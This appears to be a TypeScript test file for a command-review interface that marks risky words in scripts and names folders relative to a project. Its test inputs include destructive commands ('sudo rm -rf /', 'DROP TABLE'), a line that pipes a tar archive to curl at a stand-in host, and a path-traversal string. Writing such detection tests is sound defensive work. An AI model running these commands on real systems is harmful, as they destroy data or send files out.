// Scripts and folders of a command: what is unfolded, what is marked, and where it is.

import { h } from "preact";
import { renderToString } from "preact-render-to-string";
import { beforeAll, describe, expect, test } from "vitest";

import { actPieces } from "../src/page/review/acts.ts";
import { reviewDocument } from "../src/page/review/document.ts";
import { DrawnLine } from "../src/page/review/drawn.tsx";
import { belowProject, inProject } from "../src/page/review/folder.ts";
import type { Section } from "../src/page/review/line.ts";
import { utf8 } from "../src/protocol/bytes.ts";
import { sha256Hex } from "../src/protocol/hash.ts";
import { parseObject } from "../src/protocol/json.ts";
import type { Call } from "../src/protocol/payload/call.ts";
import { type Payload, readPayload } from "../src/protocol/payload/index.ts";
import { foundIn, noteOf } from "../src/protocol/payload/sentence.ts";
import type { OpenedRequest } from "../src/protocol/request.ts";
import { texts } from "../src/texts.ts";
import { openedRequest } from "./opened.ts";

let request: OpenedRequest;
beforeAll(async () => {
  request = await openedRequest();
});

function command(content: string, more: object = {}): Payload {
  const file = {
    path: "deploy.sh",
    role: "script",
    digest: sha256Hex(utf8(content)),
    size: utf8(content).length,
    content,
  };
  const members = { argv: ["sh", "deploy.sh"], cwd: "/w", state: "opaque", effects: [], files: [file], ...more };
  const text = JSON.stringify({ schema: "org.proto.payload", version: 2, ...members });
  return readPayload("command.review", parseObject(text));
}

const script = (payload: Payload): Section | undefined =>
  reviewDocument(request, payload).sections.find(({ title }) => title === "deploy.sh");

describe("a script", () => {
  test("is unfolded if it is short", () => {
    expect(script(command("echo\n".repeat(40)))?.isFolded).toBe(false);
    expect(script(command("echo\n".repeat(41)))?.isFolded).toBe(true);
  });

  test("has its words marked where nobody can tell what it does, and nowhere else", () => {
    const content = "rm -rf build\necho done\n";
    const drawn = (payload: Payload): string =>
      (script(payload)?.lines ?? []).map((line) => renderToString(h(DrawnLine, { line, look: "read" }))).join("");
    expect(drawn(command(content))).toContain('<b class="act">rm</b> -rf build');
    expect(drawn(command(content))).toContain(texts.actsMarked);
    expect(drawn(command(content, { state: "examined" }))).not.toContain("act");
    expect(drawn(command("echo done\n"))).not.toContain(texts.actsMarked);
  });

  test.each([
    ["deletes", "sudo rm -rf /", ["sudo", "rm"]],
    ["deletes data", "psql -c 'DROP TABLE orders'", ["DROP"]],
    ["sends", "tar c . | curl -T - https://x.example", ["curl"]],
    ["starts and stops", "systemctl restart web; kill 1", ["systemctl", "restart", "kill"]],
    ["none", "echo arm; ./rm-old --delete-after; x.rm; format", []],
  ])("marks whole words only: %s", (_, text, words) => {
    const pieces = actPieces(text);
    expect(pieces.filter(({ isAct }) => isAct).map((piece) => piece.text)).toEqual(words);
    expect(pieces.map((piece) => piece.text).join("")).toBe(text);
  });
});

describe("a folder", () => {
  const call = (repository: string | undefined): Call => ({ repository }) as Call;

  test.each([
    ["/home/ada/shop", "shop", "/home/ada/shop"],
    ["/home/ada/shop/src/a", "shop/src/a", "src/a"],
    ["/home/ada/shop2", "/home/ada/shop2", "/home/ada/shop2"],
    ["/home/ada", "/home/ada", "/home/ada"],
    ["/home/ada/shop/../evil", "/home/ada/shop/../evil", "/home/ada/shop/../evil"],
  ])("%s is said by the project only inside of it", (path, named, below) => {
    expect(inProject(path, call("/home/ada/shop"))).toBe(named);
    expect(belowProject(path, call("/home/ada/shop"))).toBe(below);
  });

  test("without a project, or with the root as one, is the whole path", () => {
    for (const root of [undefined, "/"]) {
      expect(inProject("/srv/x", call(root))).toBe("/srv/x");
      expect(belowProject("/srv/x", call(root))).toBe("/srv/x");
    }
  });

  test("is whole in the proof", () => {
    const message = { argv: ["sh", "deploy.sh"], stdin: "terminal" };
    const whole = { kind: "exec", moment: "run", tool: "sh", folder: "/w/shop/src", repository: "/w/shop", message };
    const payload = command("x\n", {
      cwd: "/w/shop/src",
      files: undefined,
      call: { ...whole, shown: ["/argv", "/stdin"] },
    });
    const { sections } = reviewDocument(request, payload);
    expect(sections[0]?.lines.map(({ text }) => text)).toContain("in shop/src, on robot");
    const proof = sections.find(({ need }) => need === "never")?.lines.map(({ label, text }) => `${label}: ${text}`);
    expect(proof).toContain("Folder: /w/shop/src");
  });
});

test("what is said beyond what was found is its end, and nothing of what others write", () => {
  const found = foundIn(command("x\n", { effects: [{ effect: "deletes", detail: "/srv" }] }));
  expect(found.map((one) => [one.text, noteOf(one)])).toContainEqual([
    "Deletes /srv. This can't be undone.",
    "This can't be undone.",
  ]);
  expect(noteOf({ text: "Connects to example.org.", weight: "plain" })).toBe("");
});

test("the head of the first hunk of a file is not drawn, and every other one is", () => {
  const head = (text: string): string => renderToString(h(DrawnLine, { line: { kind: "hunk", text }, look: "read" }));
  for (const text of ["@@ -1,3 +1,4 @@", "@@ -0,0 +1 @@", "@@ -1 +1 @@"]) expect(head(text)).toContain("line known");
  for (const text of ["@@ -1,3 +1,4 @@ evil", "@@ -2,3 +1,4 @@", "@@ -1,3 +10 @@"])
    expect(head(text)).toContain("line hunk");
});
